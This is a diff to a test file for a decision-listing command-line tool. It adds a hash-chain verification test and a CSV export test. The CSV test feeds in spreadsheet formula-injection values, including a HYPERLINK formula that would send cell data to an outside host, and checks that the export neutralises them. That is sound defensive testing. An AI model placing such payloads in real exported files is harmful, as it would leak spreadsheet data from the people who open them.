@@ -1,6 +1,9 @@
+import { parse } from 'csv-parse/sync';
 import { rmSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { verifyChain } from '../../src/core/chain.js';
+import type { DecisionEvent, DecisionLine } from '../../src/index.js';
 import { corpus, json, ndjson, NOW, PIPELINE, put, winnow, type Ran } from './support.js';
 
 interface Decided { generation: number; behind: { target: string; generation: number | null }[] }
@@ -51,7 +54,7 @@ describe('winnow decide and the targets', () => {
 });
 
 describe('winnow list decisions', () => {
-  interface Line { seq: number; verdict: string; chunkId: string; path: string; fate: string; on: string | null; why: string | null }
+  interface Line { seq: number; verdict: string; chunkId: string; path: string; reason: string; fate: string; on: string | null; why: string | null }
   const LAMPS = '# Lamps\n\nEvery lamp in the cellar is switched off by whoever leaves last, and the porter looks at ten in the evening whether it was.\n';
   const EDITED = '# Archive\n\nThe archive keeps every invoice for twelve years. After that the finance team decides together with the auditors which of them are destroyed, and writes down why.\n';
   const list = (...args: string[]): Promise<Ran> => winnow(['list', 'decisions', ...args], { cwd });
@@ -70,7 +73,7 @@ describe('winnow list decisions', () => {
     const ran = await list('--json');
     expect([ran.code, ran.stderr]).toEqual([0, '']);
     const lines = ndjson<Line>(ran);
-    expect(Object.keys(lines[0] ?? {})).toEqual(['seq', 'at', 'actor', 'verdict', 'reason', 'chunkId', 'documentId', 'source', 'path', 'record', 'fate', 'on', 'why']);
+    expect(Object.keys(lines[0] ?? {})).toEqual(['seq', 'at', 'actor', 'verdict', 'reason', 'subjectKind', 'evidence', 'previousHash', 'hash', 'chunkId', 'documentId', 'source', 'path', 'record', 'fate', 'on', 'why']);
     expect(lines.map(({ seq, verdict, path, fate }) => [seq, verdict, path, fate])).toEqual([
       [1, 'reject', 'bicycles.md', 'superseded'], [2, 'approve', 'bicycles.md', 'stands'], [3, 'approve', 'archive.md', 'lapsed'], [4, 'reject', 'lamps.md', 'gone'],
     ]);
@@ -93,6 +96,28 @@ describe('winnow list decisions', () => {
       'gone        DAY  ada: reject ID  docs:lamps.md  "looked at"', '    Rejected by ada on DAY, but the text is gone since generation 6', '',
     ].join('\n'));
   });
+
+  it('gives with --json each link of the chain whole, so that anybody can verify it', async () => {
+    const events = ndjson<DecisionLine>(await list('--json')).map(({ chunkId, ...line }): DecisionEvent => ({ ...line, subjectId: chunkId }));
+    expect(await verifyChain(events)).toMatchObject({ ok: true, head: { seq: 4, hash: events.at(-1)?.hash } });
+    expect(await verifyChain(events.map((event, at) => (at === 1 ? { ...event, reason: 'another' } : event)))).toMatchObject({ ok: false, brokenAt: 2 });
+  });
+
+  it('gives CSV, in which no cell is a formula, whatever people wrote', async () => {
+    const own = await ran({});
+    const reasons = ['=HYPERLINK("https://example.org/?"&A1,"see")', '+1', '-2+3', '@SUM(A1)', '\t=1', 'says "no",\nand why', 'plain'];
+    for (const reason of reasons) await winnow(['decide', 'docs:bicycles.md', '--approve', '--reason', reason, '--actor', '=ada'], { cwd: own });
+    const csv = await winnow(['list', 'decisions', '--csv'], { cwd: own });
+    const rows: Record<string, string>[] = parse(csv.stdout, { columns: true });
+    expect([csv.code, csv.stderr, rows.length]).toEqual([0, '', reasons.length]);
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r-]/u);
+    expect(rows.map(({ reason }) => reason?.replace(/^'/u, ''))).toEqual(ndjson<Line>(await winnow(['list', 'decisions', '--json'], { cwd: own })).map(({ reason }) => reason));
+    expect(rows[0]).toMatchObject({ seq: '1', actor: "'=ada", verdict: 'approve', fate: 'superseded', path: 'bicycles.md', previousHash: '0'.repeat(64) });
+    for (const [args, message] of [[['chunks', '--csv'], 'takes no --csv'], [['decisions', '--csv', '--json'], 'exclude each other']] as const) {
+      const refused = await winnow(['list', ...args], { cwd: own });
+      expect([refused.code, refused.stderr]).toEqual([2, expect.stringContaining(message)]);
+    }
+  }, 60_000);
 
   it('stops at the limit and filters by fate, the limit counting what passed', async () => {
     expect(await paths('--limit', '2')).toEqual(['1 bicycles.md', '2 bicycles.md']);
